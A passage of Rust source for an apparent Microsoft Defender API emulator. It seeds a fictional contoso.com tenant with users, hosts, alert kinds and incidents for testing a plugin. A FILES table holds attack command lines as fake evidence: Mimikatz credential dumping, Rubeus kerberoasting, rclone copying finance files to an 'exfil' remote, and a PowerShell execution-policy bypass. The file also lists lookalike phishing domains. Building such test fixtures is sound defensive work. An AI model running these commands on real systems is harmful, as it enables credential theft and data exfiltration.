//! The demo tenant's data: people, devices, files and addresses (the directory), and the incidents
//! Defender raised over the 30 days before the emulator's start. Everything comes from one seed, so
//! two emulators with the same options hold byte-identical data, and a bug seen in the sandbox can
//! be reproduced by anyone. The catalogue of alert kinds covers every service source and every
//! entity type, so the plugin meets all the shapes real tenants produce.

use std::sync::Arc;

use jiff::{SignedDuration, Timestamp};
use rand::rngs::SmallRng;
use rand::{Rng, SeedableRng};

use super::model::{
    Alert, ApiEnum, Classification, Comment, Determination, Device, Entity, EntityType, Incident,
    IncidentApi, IncidentStatus, Severity, VmMetadata,
};
use super::odata::Filter;
use super::rules::DetectionRule;

/// How far back the seeded data reaches: the Defender portal and advanced hunting keep 30 days.
pub(crate) const DATA_WINDOW: SignedDuration = SignedDuration::from_hours(30 * 24);
pub(crate) const MAIL_DOMAIN: &str = "contoso.com";
const NETBIOS_DOMAIN: &str = "CONTOSO";
const FIRST_INCIDENT_ID: u64 = 1001;

pub(crate) fn guid(rng: &mut impl Rng) -> String {
    let value: u128 = rng.random();
    let hex = format!("{value:032x}");
    format!(
        "{}-{}-{}-{}-{}",
        &hex[..8],
        &hex[8..12],
        &hex[12..16],
        &hex[16..20],
        &hex[20..]
    )
}

pub(crate) fn hex(rng: &mut impl Rng, digits: usize) -> String {
    (0..digits)
        .map(|_| char::from_digit(rng.random_range(0..16), 16).expect("a hex digit"))
        .collect()
}

pub(crate) fn pick<'a, T>(rng: &mut impl Rng, items: &'a [T]) -> &'a T {
    &items[rng.random_range(0..items.len())]
}

/// A random instant in `[from, to)`, with the 100 ns resolution of the API's seven-digit times.
pub(crate) fn instant_between(rng: &mut impl Rng, from: Timestamp, to: Timestamp) -> Timestamp {
    let ticks = (to.as_nanosecond() - from.as_nanosecond()) / 100;
    if ticks <= 0 {
        return from;
    }
    let offset = rng.random_range(0..ticks) * 100;
    Timestamp::from_nanosecond(from.as_nanosecond() + offset).unwrap_or(from)
}

pub(crate) struct User {
    pub(crate) display_name: String,
    pub(crate) account_name: String,
    pub(crate) upn: String,
    pub(crate) sid: String,
    pub(crate) object_id: String,
}

pub(crate) struct Host {
    pub(crate) device_id: String,
    pub(crate) aad_device_id: Option<String>,
    pub(crate) dns_name: String,
    pub(crate) os_platform: &'static str,
    pub(crate) os_version: &'static str,
    pub(crate) os_build: u32,
    pub(crate) rbac_group: &'static str,
    pub(crate) first_seen: Timestamp,
    pub(crate) tags: Vec<&'static str>,
    pub(crate) azure_vm: Option<VmMetadata>,
    pub(crate) ip_address: String,
}

pub(crate) struct FileSample {
    pub(crate) name: &'static str,
    pub(crate) folder: &'static str,
    pub(crate) sha1: String,
    pub(crate) sha256: String,
    pub(crate) command_line: &'static str,
}

/// The tenant's people, machines and the outside world they meet.
pub(crate) struct Directory {
    pub(crate) users: Vec<User>,
    pub(crate) hosts: Vec<Host>,
    pub(crate) external_ips: Vec<String>,
    pub(crate) urls: Vec<String>,
    pub(crate) files: Vec<FileSample>,
    /// SOC analysts who own and comment on incidents. One has an apostrophe in the name, since
    /// OData string literals must double it (`'shannon.o''brien@contoso.com'`).
    pub(crate) analysts: Vec<String>,
}

const FIRST_NAMES: &[&str] = &[
    "Adele",
    "Alex",
    "Diego",
    "Grady",
    "Henrietta",
    "Isaiah",
    "Johanna",
    "Joni",
    "Lee",
    "Lidia",
    "Lynne",
    "Megan",
    "Miriam",
    "Nestor",
    "Patti",
    "Pradeep",
];
const LAST_NAMES: &[&str] = &[
    "Vance",
    "Wilber",
    "Siciliani",
    "Archie",
    "Mueller",
    "Langer",
    "Lauer",
    "Sherman",
    "Gu",
    "Holloway",
    "Robbins",
    "Bowen",
    "Graham",
    "Wilke",
    "Fernandez",
    "Gupta",
];

const MALICIOUS_DOMAINS: &[&str] = &[
    "contoso-payroll.com",
    "microsoft-login-verify.net",
    "docs-share-secure.com",
    "invoice-portal.co",
    "m365-update.info",
    "secure-voicemail.app",
];
const URL_PATHS: &[&str] = &[
    "/login",
    "/auth/signin",
    "/invoice/view",
    "/download/update.exe",
    "/share/doc",
    "/vm",
];

const FILES: &[(&str, &str, &str)] = &[
    (
        "mimikatz.exe",
        "C:\\Users\\Public\\Downloads",
        "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
    ),
    (
        "invoice_2025.pdf.exe",
        "C:\\Users\\{user}\\Downloads",
        "\"invoice_2025.pdf.exe\"",
    ),
    (
        "payload.dll",
        "C:\\ProgramData\\Microsoft\\Crypto",
        "rundll32.exe C:\\ProgramData\\Microsoft\\Crypto\\payload.dll,Start",
    ),
    (
        "update.ps1",
        "C:\\Windows\\Temp",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Windows\\Temp\\update.ps1",
    ),
    (
        "Rubeus.exe",
        "C:\\Temp",
        "Rubeus.exe kerberoast /outfile:hashes.txt",
    ),
    (
        "svch0st.exe",
        "C:\\Windows\\Tasks",
        "svch0st.exe -k netsvcs",
    ),
    (
        "report.docm",
        "C:\\Users\\{user}\\Documents",
        "\"WINWORD.EXE\" /n \"report.docm\"",
    ),
    (
        "rclone.exe",
        "C:\\Users\\{user}\\AppData\\Local\\Temp",
        "rclone.exe copy C:\\Finance remote:exfil --transfers 16",
    ),
];

impl Directory {
    fn generate(seed: u64, start: Timestamp) -> Directory {
        let mut rng = SmallRng::seed_from_u64(seed ^ 0xD1EC_7081);
        let mut users = Vec::new();
        for (index, first) in FIRST_NAMES.iter().enumerate() {
            let last = LAST_NAMES[(index + (seed as usize % LAST_NAMES.len())) % LAST_NAMES.len()];
            users.push(User {
                display_name: format!("{first} {last}"),
                account_name: format!("{}{}", &first[..1], last).to_lowercase(),
                upn: format!(
                    "{}.{}@{MAIL_DOMAIN}",
                    first.to_lowercase(),
                    last.to_lowercase()
                ),
                sid: format!("S-1-5-21-1721254763-462695806-1538882281-{}", 1100 + index),
                object_id: guid(&mut rng),
            });
        }
        users.push(User {
            display_name: "Shannon O'Brien".into(),
            account_name: "sobrien".into(),
            upn: format!("shannon.o'brien@{MAIL_DOMAIN}"),
            sid: "S-1-5-21-1721254763-462695806-1538882281-1099".into(),
            object_id: guid(&mut rng),
        });

        let mut hosts = Vec::new();
        let kinds: &[(&str, &'static str, &'static str, u32, &'static str, usize)] = &[
            ("ws", "Windows11", "23H2", 22631, "Workstations", 14),
            ("ws", "Windows10", "22H2", 19045, "Workstations", 8),
            ("srv-app", "WindowsServer2022", "21H2", 20348, "Servers", 4),
            ("srv-db", "WindowsServer2019", "1809", 17763, "Servers", 3),
            (
                "dc",
                "WindowsServer2022",
                "21H2",
                20348,
                "Domain Controllers",
                2,
            ),
            ("vm-web", "Linux", "22.04", 0, "Cloud workloads", 3),
        ];
        for (prefix, platform, version, build, group, count) in kinds {
            for number in 1..=*count {
                let short_name = format!("{prefix}-{:03}", hosts.len() + number);
                let workstation = *prefix == "ws";
                let azure_vm = prefix.starts_with("vm").then(|| {
                    let subscription = guid(&mut rng);
                    VmMetadata {
                        vm_id: guid(&mut rng),
                        cloud_provider: "Azure",
                        resource_id: format!(
                            "/subscriptions/{subscription}/resourceGroups/rg-web/providers/Microsoft.Compute/virtualMachines/{short_name}"
                        ),
                        subscription_id: subscription,
                    }
                });
                let first_seen = instant_between(
                    &mut rng,
                    start - SignedDuration::from_hours(24 * 700),
                    start - DATA_WINDOW,
                );
                let tags = match (workstation, rng.random_range(0..4)) {
                    (true, 0) => vec!["finance", "vip"],
                    (true, 1) => vec!["sales"],
                    (false, 0) => vec!["tier0"],
                    _ => Vec::new(),
                };
                hosts.push(Host {
                    device_id: hex(&mut rng, 40),
                    aad_device_id: workstation.then(|| guid(&mut rng)),
                    dns_name: format!("{short_name}.corp.{MAIL_DOMAIN}"),
                    os_platform: platform,
                    os_version: version,
                    os_build: *build,
                    rbac_group: group,
                    first_seen,
                    tags,
                    azure_vm,
                    ip_address: format!(
                        "10.{}.{}.{}",
                        rng.random_range(1..4),
                        rng.random_range(0..255),
                        rng.random_range(2..254)
                    ),
                });
            }
        }

        let external_ips = (0..24)
            .map(|_| {
                let first = *pick(&mut rng, &[45u8, 91, 103, 146, 185, 193, 203]);
                format!(
                    "{first}.{}.{}.{}",
                    rng.random_range(1..255),
                    rng.random_range(0..255),
                    rng.random_range(1..255)
                )
            })
            .collect();
        let urls = MALICIOUS_DOMAINS
            .iter()
            .map(|domain| format!("https://{domain}{}", pick(&mut rng, URL_PATHS)))
            .collect();
        let files = FILES
            .iter()
            .map(|(name, folder, command_line)| FileSample {
                name,
                folder,
                sha1: hex(&mut rng, 40),
                sha256: hex(&mut rng, 64),
                command_line,
            })
            .collect();
        let analysts = vec![
            format!("soc.analyst1@{MAIL_DOMAIN}"),
            format!("soc.analyst2@{MAIL_DOMAIN}"),
            format!("secops.lead@{MAIL_DOMAIN}"),
            format!("shannon.o'brien@{MAIL_DOMAIN}"),
        ];
        Directory {
            users,
            hosts,
            external_ips,
            urls,
            files,
            analysts,
        }
    }
}

/// One kind of alert a Defender workload raises.
struct AlertKind {
    service_source: &'static str,
    detection_source: &'static str,
    alert_id_prefix: &'static str,
    title: &'static str,
    category: &'static str,
    severity: Severity,
    mitre_techniques: &'static [&'static str],
    evidence: &'static [EntityType],
    on_device: bool,
    threat_family: Option<&'static str>,
    description: &'static str,
}

use EntityType::*;

/// The catalogue of alert kinds, at least one per service source
/// (<https://learn.microsoft.com/defender-xdr/api-list-incidents#alerts-metadata>).
const ALERT_KINDS: &[AlertKind] = &[
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "EDR",
        alert_id_prefix: "da",
        title: "Suspicious PowerShell command line",
        category: "Execution",
        severity: Severity::Medium,
        mitre_techniques: &["T1059.001"],
        evidence: &[Process, File, User],
        on_device: true,
        threat_family: None,
        description: "A suspicious PowerShell command line was run by {user} on {device}. Attackers use PowerShell to download and run payloads in memory.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "WindowsDefenderAv",
        alert_id_prefix: "da",
        title: "'Mimikatz' hacktool was detected",
        category: "CredentialAccess",
        severity: Severity::High,
        mitre_techniques: &["T1003.001"],
        evidence: &[File, Process],
        on_device: true,
        threat_family: Some("Mimikatz"),
        description: "Readily available tools, such as hacking programs, can be used by unauthorized individuals to spy on users. Microsoft Defender Antivirus detected Mimikatz on {device}.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "EDR",
        alert_id_prefix: "da",
        title: "Anomaly detected in ASEP registry",
        category: "Persistence",
        severity: Severity::Medium,
        mitre_techniques: &["T1547.001"],
        evidence: &[Registry, Process],
        on_device: true,
        threat_family: None,
        description: "A process registered a suspicious command or file in an autostart registry key on {device}.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "EDR",
        alert_id_prefix: "da",
        title: "Communication with a known malicious IP address",
        category: "CommandAndControl",
        severity: Severity::High,
        mitre_techniques: &["T1071.001", "T1105"],
        evidence: &[Ip, Url, Process],
        on_device: true,
        threat_family: None,
        description: "{device} communicated with an IP address that threat intelligence associates with command and control infrastructure.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "AutomatedInvestigation",
        alert_id_prefix: "da",
        title: "Automated investigation started manually",
        category: "SuspiciousActivity",
        severity: Severity::Informational,
        mitre_techniques: &[],
        evidence: &[],
        on_device: true,
        threat_family: None,
        description: "An automated investigation was started manually on {device}.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForEndpoint",
        detection_source: "WindowsDefenderAv",
        alert_id_prefix: "da",
        title: "Ransomware behavior detected in the file system",
        category: "Ransomware",
        severity: Severity::High,
        mitre_techniques: &["T1486"],
        evidence: &[File, Process, User],
        on_device: true,
        threat_family: Some("Ryuk"),
        description: "Files on {device} were encrypted in a way that matches known ransomware behavior.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForOffice365",
        detection_source: "OfficeATP",
        alert_id_prefix: "fa",
        title: "Email messages containing malicious URL removed after delivery",
        category: "InitialAccess",
        severity: Severity::Medium,
        mitre_techniques: &["T1566.002"],
        evidence: &[MailBox, MailMessage, Url, User],
        on_device: false,
        threat_family: None,
        description: "Emails containing a malicious URL were delivered to {user} and later removed by zero-hour auto purge.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForOffice365",
        detection_source: "OfficeATP",
        alert_id_prefix: "fa",
        title: "Email reported by user as malware or phish",
        category: "InitialAccess",
        severity: Severity::Informational,
        mitre_techniques: &["T1566"],
        evidence: &[MailBox, MailMessage, MailCluster],
        on_device: false,
        threat_family: None,
        description: "This alert is triggered when any email message is reported as malware or phish by users -V1.0.0.3",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForOffice365",
        detection_source: "OfficeATP",
        alert_id_prefix: "fa",
        title: "Email messages containing malware removed after delivery",
        category: "InitialAccess",
        severity: Severity::Medium,
        mitre_techniques: &["T1566.001"],
        evidence: &[MailMessage, File, MailBox],
        on_device: false,
        threat_family: None,
        description: "Emails with a malicious attachment were delivered to {user} and later removed.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForIdentity",
        detection_source: "AATP",
        alert_id_prefix: "aa",
        title: "Suspected DCSync attack (replication of directory services)",
        category: "CredentialAccess",
        severity: Severity::High,
        mitre_techniques: &["T1003.006"],
        evidence: &[User, Ip],
        on_device: true,
        threat_family: None,
        description: "{user} sent a replication request from {device} to a domain controller.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForIdentity",
        detection_source: "AATP",
        alert_id_prefix: "aa",
        title: "Suspicious additions to sensitive groups",
        category: "Persistence",
        severity: Severity::Medium,
        mitre_techniques: &["T1098"],
        evidence: &[User, SecurityGroup],
        on_device: false,
        threat_family: None,
        description: "{user} was added to a sensitive group outside of the usual change process.",
    },
    AlertKind {
        service_source: "MicrosoftCloudAppSecurity",
        detection_source: "MCAS",
        alert_id_prefix: "ca",
        title: "Impossible travel activity",
        category: "InitialAccess",
        severity: Severity::Medium,
        mitre_techniques: &["T1078"],
        evidence: &[User, Ip],
        on_device: false,
        threat_family: None,
        description: "{user} signed in from two distant countries within a time shorter than the travel time between them.",
    },
    AlertKind {
        service_source: "MicrosoftCloudAppSecurity",
        detection_source: "MCAS",
        alert_id_prefix: "ca",
        title: "Mass download by a single user",
        category: "Exfiltration",
        severity: Severity::Low,
        mitre_techniques: &["T1530"],
        evidence: &[User, Ip, File],
        on_device: false,
        threat_family: None,
        description: "{user} downloaded an unusual number of files from SharePoint Online in a single session.",
    },
    AlertKind {
        service_source: "AzureAdIdentityProtection",
        detection_source: "AzureAdIdentityProtection",
        alert_id_prefix: "ad",
        title: "Unfamiliar sign-in properties",
        category: "InitialAccess",
        severity: Severity::Low,
        mitre_techniques: &["T1078.004"],
        evidence: &[User, Ip],
        on_device: false,
        threat_family: None,
        description: "The sign-in of {user} had properties not seen recently for this user.",
    },
    AlertKind {
        service_source: "AzureAdIdentityProtection",
        detection_source: "AzureAdIdentityProtection",
        alert_id_prefix: "ad",
        title: "Password spray",
        category: "CredentialAccess",
        severity: Severity::High,
        mitre_techniques: &["T1110.003"],
        evidence: &[User, Ip],
        on_device: false,
        threat_family: None,
        description: "Many accounts, {user} among them, were targeted with a few common passwords from one address.",
    },
    AlertKind {
        service_source: "MicrosoftDefenderForCloud",
        detection_source: "MicrosoftDefenderForCloud",
        alert_id_prefix: "dc",
        title: "Suspicious process executed on a virtual machine",
        category: "Execution",
        severity: Severity::Medium,
        mitre_techniques: &["T1059.004"],
        evidence: &[Process, Ip],
        on_device: true,
        threat_family: None,
        description: "A process commonly used by attackers ran on the virtual machine {device}.",
    },
    AlertKind {
        service_source: "Microsoft365Defender",
        detection_source: "MTP",
        alert_id_prefix: "ed",
        title: "Suspected business email compromise",
        category: "InitialAccess",
        severity: Severity::High,
        mitre_techniques: &["T1114.003", "T1078"],
        evidence: &[User, MailBox, Ip],
        on_device: false,
        threat_family: None,
        description: "{user}'s mailbox got a suspicious inbox rule shortly after a risky sign-in.",
    },
];

const TAGS: &[&str] = &[
    "Phishing",
    "Ransomware",
    "VIP",
    "Tier1",
    "Tier2",
    "Escalated",
    "PenTest",
];
const COMMENTS: &[&str] = &[
    "Looking into it",
    "Contacted the user, waiting for an answer",
    "Isolated the device while we investigate",
    "Password reset done, sessions revoked",
    "Matches the red team exercise schedule",
    "Closing: no further activity seen",
];
const SECURITY_GROUPS: &[&str] = &[
    "Domain Admins",
    "Enterprise Admins",
    "Network Configuration Operators",
];

/// "CommandAndControl" → "Command and control", as incident names spell categories.
fn category_words(category: &str) -> String {
    let mut words = String::new();
    for (index, character) in category.chars().enumerate() {
        if character.is_uppercase() && index > 0 {
            words.push(' ');
            words.extend(character.to_lowercase());
        } else {
            words.push(character);
        }
    }
    words
}

/// What the creator of an incident decided beforehand; the rest is drawn at random.
pub(crate) struct IncidentShape {
    pub(crate) created: Timestamp,
    pub(crate) last_update: Timestamp,
    pub(crate) status: IncidentStatus,
    pub(crate) redirect_to: Option<u64>,
    /// An `id` of Graph's own (see [`Incident::graph_id`]); none: the number.
    pub(crate) graph_id: Option<String>,
    pub(crate) severity: Option<Severity>,
    pub(crate) assigned_to: Option<Option<String>>,
    /// Index into the alert catalogue for the first alert (cycling it covers every kind).
    pub(crate) first_alert_kind: usize,
}

pub(crate) struct StoredIncident {
    pub(crate) incident: Incident,
    /// Ingestion lag: the API lists an incident only from this instant on.
    pub(crate) visible_from: Timestamp,
}

/// One page of a list request.
pub(crate) struct Page<T> {
    pub(crate) items: Vec<T>,
    /// How many items match in all, on every page.
    pub(crate) total: usize,
    /// The `$skip` of the next page, if there are items after this one.
    pub(crate) next_skip: Option<usize>,
}

impl<T> Page<T> {
    /// The page of `size` items from `skip` on, of all the `matching` ones in the order listed.
    pub(crate) fn of(matching: Vec<T>, skip: usize, size: usize) -> Page<T> {
        let total = matching.len();
        // A client's `$skip` can be anything up to the largest number it can write.
        let next_skip = skip.saturating_add(size);
        Page {
            items: matching.into_iter().skip(skip).take(size).collect(),
            total,
            next_skip: (size > 0 && next_skip < total).then_some(next_skip),
        }
    }
}

pub(crate) struct Tenant {
    pub(crate) directory: Arc<Directory>,
    incidents: Vec<StoredIncident>,
    /// Custom detection rules, oldest first.
    pub(crate) rules: Vec<DetectionRule>,
    rng: SmallRng,
}

impl Tenant {
    /// The seeded tenant: `count` incidents created over the 30 days before `start`.
    pub(crate) fn seeded(seed: u64, count: usize, start: Timestamp) -> Tenant {
        let directory = Arc::new(Directory::generate(seed, start));
        let mut rules = super::rules::seeded(seed, start, &directory);
        rules.sort_by_key(|rule| rule.created);
        let mut tenant = Tenant {
            directory,
            incidents: Vec::with_capacity(count),
            rules,
            rng: SmallRng::seed_from_u64(seed ^ 0x1C1D_E475),
        };
        let window_start = start - DATA_WINDOW;
        let mut created: Vec<Timestamp> = (0..count)
            .map(|_| instant_between(&mut tenant.rng, window_start, start))
            .collect();
        created.sort();
        let last_id = FIRST_INCIDENT_ID + count as u64 - 1;
        for (index, created) in created.into_iter().enumerate() {
            let id = FIRST_INCIDENT_ID + index as u64;
            // Statuses cycle first (so every status occurs), then follow a realistic mix.
            let status = match index {
                0..4 => IncidentStatus::ALL[index],
                _ => match tenant.rng.random_range(0..100) {
                    0..40 => IncidentStatus::Active,
                    40..55 => IncidentStatus::InProgress,
                    55..94 => IncidentStatus::Resolved,
                    _ => IncidentStatus::Redirected,
                },
            };
            let (status, redirect_to) = match status {
                IncidentStatus::Redirected if id < last_id => (
                    status,
                    Some(tenant.rng.random_range(id + 1..=last_id.min(id + 5))),
                ),
                IncidentStatus::Redirected => (IncidentStatus::Active, None),
                other => (other, None),
            };
            let room = start
                .duration_since(created)
                .min(SignedDuration::from_hours(5 * 24));
            let last_update = instant_between(&mut tenant.rng, created, created + room);
            let shape = IncidentShape {
                created,
                last_update,
                status,
                redirect_to,
                graph_id: None,
                severity: None,
                assigned_to: None,
                first_alert_kind: index % ALERT_KINDS.len(),
            };
            let incident = tenant.build(id, &shape);
            tenant.incidents.push(StoredIncident {
                incident,
                visible_from: created,
            });
        }
        tenant
    }

    /// What a list request shows at `now`: the page of `size` incidents from `skip` on, of the
    /// visible incidents that match `filter`, newest first, the order both the Defender API and
    /// Graph list in.
    pub(crate) fn listed(
        &self,
        now: Timestamp,
        api: IncidentApi,
        filter: Option<&Filter>,
        skip: usize,
        size: usize,
    ) -> Page<&Incident> {
        let mut matching: Vec<&Incident> = self
            .visible(now)
            .filter(|incident| incident.is_in(api) && filter.is_none_or(|f| f.matches(*incident)))
            .collect();
        matching.sort_by(|a, b| Incident::newest_first(a, b));
        Page::of(matching, skip, size)
    }

    /// What Graph's alert list shows at `now`: the page of `size` alerts from `skip` on, of the
    /// alerts of visible incidents that match `filter`, newest first, each with its incident.
    pub(crate) fn listed_alerts(
        &self,
        now: Timestamp,
        filter: Option<&Filter>,
        skip: usize,
        size: usize,
    ) -> Page<(&Incident, &Alert)> {
        let mut matching: Vec<(&Incident, &Alert)> = self
            .alerts(now)
            .filter(|(_, alert)| filter.is_none_or(|f| f.matches(*alert)))
            .collect();
        matching.sort_by(|(_, a), (_, b)| Alert::newest_first(a, b));
        Page::of(matching, skip, size)
    }

    /// The alerts of the incidents the API can see at `now`, each with its incident.
    fn alerts(&self, now: Timestamp) -> impl Iterator<Item = (&Incident, &Alert)> {
        self.visible(now)
            .flat_map(|incident| incident.alerts.iter().map(move |alert| (incident, alert)))
    }

    /// The alert with id `id`, with its incident, if the API can see it at `now`.
    pub(crate) fn find_alert(&self, id: &str, now: Timestamp) -> Option<(&Incident, &Alert)> {
        self.alerts(now).find(|(_, alert)| alert.alert_id == id)
    }

    pub(crate) fn find_alert_mut(&mut self, id: &str, now: Timestamp) -> Option<&mut Alert> {
        self.incidents
            .iter_mut()
            .filter(|stored| stored.visible_from <= now)
            .flat_map(|stored| stored.incident.alerts.iter_mut())
            .find(|alert| alert.alert_id == id)
    }

    /// Incidents the API can see at `now`.
    pub(crate) fn visible(&self, now: Timestamp) -> impl Iterator<Item = &Incident> {
        self.incidents
            .iter()
            .filter(move |stored| stored.visible_from <= now)
            .map(|stored| &stored.incident)
    }

    /// The incident `id` (from a URL of `api`) names, if the API can see it at `now`.
    pub(crate) fn find(&self, api: IncidentApi, id: &str, now: Timestamp) -> Option<&Incident> {
        self.visible(now)
            .find(|incident| incident.is_named(api, id))
    }

    pub(crate) fn find_mut(
        &mut self,
        api: IncidentApi,
        id: &str,
        now: Timestamp,
    ) -> Option<&mut Incident> {
        self.incidents
            .iter_mut()
            .find(|stored| stored.visible_from <= now && stored.incident.is_named(api, id))
            .map(|stored| &mut stored.incident)
    }

    /// Whether an incident, visible yet or not, has the Graph id `id`.
    pub(crate) fn has_graph_id(&self, id: &str) -> bool {
        self.incidents
            .iter()
            .any(|stored| stored.incident.graph_id.as_deref() == Some(id))
    }

    pub(crate) fn next_id(&self) -> u64 {
        self.incidents
            .iter()
            .map(|stored| stored.incident.incident_id + 1)
            .max()
            .unwrap_or(FIRST_INCIDENT_ID)
    }

    /// Adds an incident as Defender would raise it now; it becomes listable at `visible_from`.
    pub(crate) fn add(&mut self, shape: &IncidentShape, visible_from: Timestamp) -> u64 {
        let id = self.next_id();
        let incident = self.build(id, shape);
        self.incidents.push(StoredIncident {
            incident,
            visible_from,
        });
        id
    }

    fn build(&mut self, id: u64, shape: &IncidentShape) -> Incident {
        let directory = Arc::clone(&self.directory);
        let rng = &mut self.rng;
        let user = pick(rng, &directory.users);
        let host = pick(rng, &directory.hosts);
        let mut kinds = vec![&ALERT_KINDS[shape.first_alert_kind % ALERT_KINDS.len()]];
        if rng.random_bool(0.35) {
            for _ in 0..rng.random_range(1..=3) {
                kinds.push(pick(rng, ALERT_KINDS));
            }
        }
        let scene = AlertScene {
            directory: &directory,
            incident_id: id,
            shape,
            user,
            host,
        };
        let mut alerts: Vec<Alert> = kinds
            .iter()
            .map(|kind| build_alert(rng, &scene, kind))
            .collect();
        let severity = shape
            .severity
            .or_else(|| {
                alerts
                    .iter()
                    .map(|alert| alert.severity)
                    .max_by_key(|severity| *severity as u8)
            })
            .unwrap_or(Severity::Informational);
        if let Some(forced) = shape.severity {
            alerts.iter_mut().for_each(|alert| alert.severity = forced);
        }

        let mut categories: Vec<&str> = Vec::new();
        for alert in &alerts {
            if !categories.contains(&alert.category) {
                categories.push(alert.category);
            }
        }
        let scope = if kinds.iter().any(|kind| kind.on_device) {
            "on one endpoint".to_owned()
        } else {
            "involving one user".to_owned()
        };
        let incident_name = match categories.as_slice() {
            [_, second, ..] => format!(
                "Multi-stage incident involving {} & {} {scope}",
                category_words(categories[0]),
                category_words(second)
            ),
            _ => format!("{} {scope}", alerts[0].title),
        };

        let (classification, determination) = match shape.status {
            IncidentStatus::Resolved => {
                let classification = *pick(rng, &Classification::ALL[1..]);
                (classification, *pick(rng, classification.determinations()))
            }
            _ if rng.random_bool(0.1) => (
                Classification::TruePositive,
                Determination::MultiStagedAttack,
            ),
            _ => (Classification::Unknown, Determination::NotAvailable),
        };
        let assigned_to = match &shape.assigned_to {
            Some(assigned) => assigned.clone(),
            None => {
                let chance = match shape.status {
                    IncidentStatus::Active | IncidentStatus::Redirected => 0.4,
                    IncidentStatus::InProgress => 1.0,
                    IncidentStatus::Resolved => 0.9,
                };
                rng.random_bool(chance)
                    .then(|| pick(rng, &directory.analysts).clone())
            }
        };
        let tags = if rng.random_bool(0.3) {
            let mut tags = vec![pick(rng, TAGS).to_string()];
            let second = pick(rng, TAGS).to_string();
            if !tags.contains(&second) {
                tags.push(second);
            }
            tags
        } else {
            Vec::new()
        };
        let comment_count = match shape.status {
            IncidentStatus::InProgress | IncidentStatus::Resolved => rng.random_range(1..=3),
            _ => rng.random_range(0..=1),
        };
        let mut comments: Vec<Comment> = (0..comment_count)
            .map(|_| Comment {
                comment: pick(rng, COMMENTS).to_string(),
                created_by: assigned_to
                    .clone()
                    .unwrap_or_else(|| pick(rng, &directory.analysts).clone()),
                created_time: instant_between(rng, shape.created, shape.last_update),
            })
            .collect();
        comments.sort_by_key(|comment| comment.created_time);

        if shape.status == IncidentStatus::Resolved {
            for alert in &mut alerts {
                alert.status = "Resolved";
                alert.resolved_time = Some(shape.last_update);
                alert.classification = Some(classification.as_str());
                alert.determination = Some(determination.as_str());
            }
        }
        if shape.status == IncidentStatus::Redirected {
            // A merged incident keeps its name but its alerts now belong to the incident it
            // redirects to.
            alerts.clear();
        }
        Incident {
            incident_id: id,
            graph_id: shape.graph_id.clone(),
            redirect_incident_id: shape.redirect_to,
            incident_name,
            created_time: shape.created,
            last_update_time: shape.last_update,
            assigned_to,
            classification,
            determination,
            status: shape.status,
            severity,
            tags,
            comments,
            alerts,
        }
    }
}

/// What the alerts of one incident share: the incident and the user and machine it is about.
struct AlertScene<'a> {
    directory: &'a Directory,
    incident_id: u64,
    shape: &'a IncidentShape,
    user: &'a User,
    host: &'a Host,
}

fn build_alert(rng: &mut SmallRng, scene: &AlertScene<'_>, kind: &AlertKind) -> Alert {
    let AlertScene {
        incident_id,
        shape,
        user,
        host,
        ..
    } = *scene;
    let creation_time = shape.created - SignedDuration::from_millis(rng.random_range(500..120_000));
    let first_activity = creation_time - SignedDuration::from_secs(rng.random_range(60..3_600));
    let last_activity = instant_between(rng, first_activity, creation_time);
    let last_updated_time =
        instant_between(rng, creation_time, shape.last_update.max(creation_time));
    let device_name = if kind.on_device {
        host.dns_name.as_str()
    } else {
        ""
    };
    let description = kind
        .description
        .replace("{user}", &user.upn)
        .replace("{device}", device_name);
    let alert_id = match kind.alert_id_prefix {
        "da" => format!(
            "da{}_{}",
            rng.random_range(638_000_000_000_000_000u64..639_000_000_000_000_000),
            rng.random_range(100_000_000u64..999_999_999)
        ),
        prefix => format!("{prefix}{}", guid(rng)),
    };
    let investigation = (kind.service_source == "MicrosoftDefenderForEndpoint")
        .then(|| rng.random_range(1..9_000u64));
    let investigation_state = match investigation {
        Some(_) => *pick(
            rng,
            &[
                "Running",
                "Benign",
                "SuccessfullyRemediated",
                "PendingApproval",
            ],
        ),
        None => *pick(rng, &["UnsupportedAlertType", "Queued"]),
    };
    let devices = if kind.on_device {
        vec![device_of(host, kind.severity)]
    } else {
        Vec::new()
    };
    let entities = kind
        .evidence
        .iter()
        .map(|entity_type| entity(rng, scene, *entity_type, creation_time, kind.on_device))
        .collect();
    let status = match shape.status {
        IncidentStatus::InProgress => "InProgress",
        _ => "New",
    };
    Alert {
        alert_id,
        incident_id,
        service_source: kind.service_source,
        creation_time,
        last_updated_time,
        resolved_time: None,
        first_activity,
        last_activity,
        title: kind.title,
        description,
        category: kind.category,
        status,
        severity: kind.severity,
        investigation_id: investigation,
        investigation_state,
        classification: None,
        determination: None,
        detection_source: kind.detection_source,
        detector_id: guid(rng),
        assigned_to: None,
        actor_name: None,
        threat_family_name: kind.threat_family,
        mitre_techniques: kind.mitre_techniques.to_vec(),
        devices,
        entities,
        comments: Vec::new(),
    }
}

fn device_of(host: &Host, severity: Severity) -> Device {
    Device {
        mdatp_device_id: host.device_id.clone(),
        aad_device_id: host.aad_device_id.clone(),
        device_dns_name: Some(host.dns_name.clone()),
        os_platform: host.os_platform,
        version: host.os_version,
        os_processor: "x64",
        os_build: host.os_build,
        health_status: "Active",
        risk_score: severity.as_str(),
        rbac_group_name: Some(host.rbac_group),
        first_seen: host.first_seen,
        tags: host.tags.clone(),
        defender_av_status: "Updated",
        onboarding_status: "Onboarded",
        vm_metadata: host.azure_vm.clone(),
    }
}

fn entity(
    rng: &mut SmallRng,
    scene: &AlertScene<'_>,
    entity_type: EntityType,
    time: Timestamp,
    on_device: bool,
) -> Entity {
    let AlertScene {
        directory,
        user,
        host,
        ..
    } = *scene;
    let mut entity = Entity::new(entity_type, time);
